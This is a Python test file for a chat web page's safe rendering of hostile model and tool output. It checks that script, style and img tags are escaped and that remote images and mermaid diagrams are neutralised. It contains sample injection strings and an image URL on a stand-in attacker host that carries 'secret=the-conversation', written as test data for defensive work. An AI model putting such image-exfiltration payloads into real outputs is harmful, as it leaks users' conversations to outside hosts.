"""Issue 12, item 7 (safe rendering): what the page hands the Chatbot for hostile model and tool output.

Answers come through the `Chat` harness (the real SDK parsing a scripted or recorded stream) and are
drawn by ui/render.py as the page draws them. The browser's view of the same cases is in
tests/browser/test_hostile_rendering.py.
"""

from __future__ import annotations

import json
import re
from typing import Any

import gradio as gr

from chat import Reply
from chat.wire import ScriptedMessage, Stream, TextBlock, ThinkingBlock, recorded
from tests.conftest import Chat
from tests.upstream import FIXTURES, text_reply
from ui.page import ChatPage
from ui.render import SOURCES_TITLE, THINKING_TITLE, exchange_messages, shown
from ui.server import ServerSettings

RAW_TAG = re.compile(r"<(?!https?://)[A-Za-z/!?]")  # a tag the browser would parse (not an autolink)
LEAK = "https://evil.example/pixel.png?secret=the-conversation"


def title_of(message: gr.ChatMessage) -> str | None:
    return (message.metadata or {}).get("title")


def answer_of(messages: list[gr.ChatMessage]) -> str:
    return "\n\n".join(m.content for m in messages if not title_of(m))


def box_of(messages: list[gr.ChatMessage], title: str) -> str:
    return next(m.content for m in messages if title_of(m) == title)


async def drawn(stream: Stream, **options: Any) -> list[gr.ChatMessage]:
    """The ended answer to one message, as the page draws it."""
    chat = Chat(stream)
    reply = await chat.send("q")
    return exchange_messages(shown(reply.exchange), chat.service.prices, **options)


async def answer(text: str, **options: Any) -> str:
    return answer_of(await drawn(text_reply(text), **options))


def live(reply: Reply) -> list[gr.ChatMessage]:
    return exchange_messages(shown(reply.exchange, reply.content, reply.timings))


# --- raw HTML shows as text -----------------------------------------------------------------------


async def test_text_after_a_style_tag_is_kept_and_the_tag_shown_as_text():
    assert await answer("Before <style> and after the style.") == "Before &lt;style> and after the style."


async def test_a_closed_style_tag_and_its_rules_are_shown_as_text():
    shown_text = await answer("Before <style>p { color: red }</style> after.")
    assert shown_text == "Before &lt;style>p { color: red }&lt;/style> after."


async def test_text_after_a_textarea_tag_is_kept_and_the_tag_shown_as_text():
    shown_text = await answer("Type here: <textarea> and everything after it.\n\nAnd more.")
    assert shown_text == "Type here: &lt;textarea> and everything after it.\n\nAnd more."


async def test_script_iframe_and_comment_tags_are_all_shown_as_text():
    shown_text = await answer("<script>alert(1)</script> <iframe src=x></iframe> <!-- hidden --> kept")
    assert not RAW_TAG.search(shown_text)
    assert "hidden" in shown_text and "kept" in shown_text


async def test_html_in_a_code_fence_is_left_as_written_for_the_chatbot_to_escape():
    fence = '```html\n<div class="x">a < b && c > d</div>\n```'
    assert await answer(f"Markup:\n\n{fence}\n\nDone.") == f"Markup:\n\n{fence}\n\nDone."


async def test_a_code_fence_inside_a_list_item_is_left_as_written():
    text = "1. Run it:\n\n   ```sh\n   echo '<b>'\n   ```\n2. Check <b>bold</b>"
    assert await answer(text) == "1. Run it:\n\n   ```sh\n   echo '<b>'\n   ```\n2. Check &lt;b>bold&lt;/b>"


async def test_inline_code_is_not_escaped_twice():
    shown_text = await answer("Use `a<b` or ``x ` <y>`` but not <b>.")
    assert shown_text == "Use `a<b` or ``x ` <y>`` but not &lt;b>."


async def test_markdown_lists_links_emphasis_tables_and_autolinks_are_left_as_markdown():
    text = (
        "# Title\n\n- **bold** and *em*\n- [a link](https://example.com/a?b=1&c=2)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\nSee <https://example.com> or $$x<y$$."
    )
    assert await answer(text) == text


async def test_thinking_with_html_shows_it_as_text():
    stream = Stream.of(ScriptedMessage([ThinkingBlock(["<style>"], signature="s"), TextBlock(["ok"])]))
    thinking = box_of(await drawn(stream), THINKING_TITLE)
    assert thinking == "&lt;style>"


async def test_a_web_page_title_with_html_and_brackets_shows_as_text_in_the_sources():
    hostile = '<img src="https://evil.example/t.png"> [x](https://evil.example) *'
    events = [
        event.replace(b"Weather in New York City in May 2025 (New York)", json.dumps(hostile)[1:-1].encode())
        for event in recorded(FIXTURES / "web_search.sse")
    ]
    sources = box_of(await drawn(Stream(events)), SOURCES_TITLE)
    assert not RAW_TAG.search(sources)
    assert r'&lt;img src="https://evil.example/t.png"> \[x\](https://evil.example) \*' in sources


async def test_a_nul_character_is_shown_as_a_replacement_character_and_latex_still_held_apart():
    assert await answer("a\x000\x00 $$x<y$$ <b>") == "a\ufffd0\ufffd $$x<y$$ &lt;b>"


# --- while it streams -----------------------------------------------------------------------------


async def test_a_tag_half_arrived_mid_stream_shows_as_text_not_swallowed():
    chat = Chat(text_reply("Look: <sty", "le> and then ", "the rest."))
    seen = []
    async with chat.stream("q") as reply:
        async for _ in reply:
            seen.append(answer_of(live(reply)))
    assert [s for s in seen if s] == [
        "Look: &lt;sty",
        "Look: &lt;style> and then ",
        "Look: &lt;style> and then the rest.",
    ]


async def test_an_unclosed_code_fence_mid_stream_keeps_its_code_as_written():
    chat = Chat(text_reply("```py\nif a <", " b:\n", "    pass\n```\nafter <b>"))
    seen = []
    async with chat.stream("q") as reply:
        async for _ in reply:
            seen.append(answer_of(live(reply)))
    assert [s for s in seen if s] == [
        "```py\nif a <",
        "```py\nif a < b:\n",
        "```py\nif a < b:\n    pass\n```\nafter &lt;b>",
    ]


# --- images ---------------------------------------------------------------------------------------


async def test_a_remote_image_becomes_a_link_to_it():
    assert await answer(f"Here: ![a chart]({LEAK})") == f"Here: [Image: a chart]({LEAK})"


async def test_an_image_with_no_words_becomes_a_link_named_image():
    assert await answer(f'![]({LEAK} "title")') == f"[Image]({LEAK})"


async def test_a_reference_style_image_becomes_a_link_to_it():
    shown_text = await answer(f"![chart][1]\n\n[1]: {LEAK}")
    assert shown_text == f"&#33;[chart][1]\n\n[1]: {LEAK}"  # "!" then a link: nothing is fetched


async def test_a_raw_img_tag_is_shown_as_text():
    assert await answer(f'<img src="{LEAK}">') == f'&lt;img src="{LEAK}">'


async def test_a_mermaid_diagram_is_shown_as_its_code_since_a_diagram_can_load_images():
    diagram = f"graph TD\n  A[\"<img src='{LEAK}'>\"]"
    shown_text = await answer(f"```mermaid\n{diagram}\n```")
    assert shown_text == f"``` mermaid\n{diagram}\n```"  # a code block: the Chatbot draws no diagram


async def test_a_mermaid_diagram_is_drawn_when_remote_images_are_allowed():
    text = "```mermaid\ngraph TD\n  A --> B\n```"
    assert await answer(text, allow_remote_images=True) == text


async def test_remote_images_are_left_as_images_when_allowed():
    text = f"![a chart]({LEAK})"
    assert await answer(text, allow_remote_images=True) == text


def test_remote_images_are_off_unless_chat_allow_remote_images_is_set():
    assert ServerSettings.from_env({}).allow_remote_images is False
    assert ServerSettings.from_env({"CHAT_ALLOW_REMOTE_IMAGES": "1"}).allow_remote_images is True


async def test_the_page_draws_answers_with_the_servers_image_setting():
    chat = Chat(text_reply(f"![x]({LEAK})"))
    reply = await chat.send("q")
    blocked = ChatPage(chat.service, ServerSettings()).messages(reply.exchange)
    allowed = ChatPage(chat.service, ServerSettings(allow_remote_images=True)).messages(reply.exchange)
    assert (answer_of(blocked), answer_of(allowed)) == (f"[Image: x]({LEAK})", f"![x]({LEAK})")


# --- very long lines ------------------------------------------------------------------------------


async def test_a_100k_character_unbroken_line_is_shown_whole_as_inline_code():
    line = "snake_case_" * 10_000
    assert await answer(f"Here: {line} done") == f"Here: `{line}` done"


async def test_a_long_url_of_ordinary_length_is_left_whole():
    url = "https://example.com/search?q=" + "x" * 900
    assert await answer(url) == url
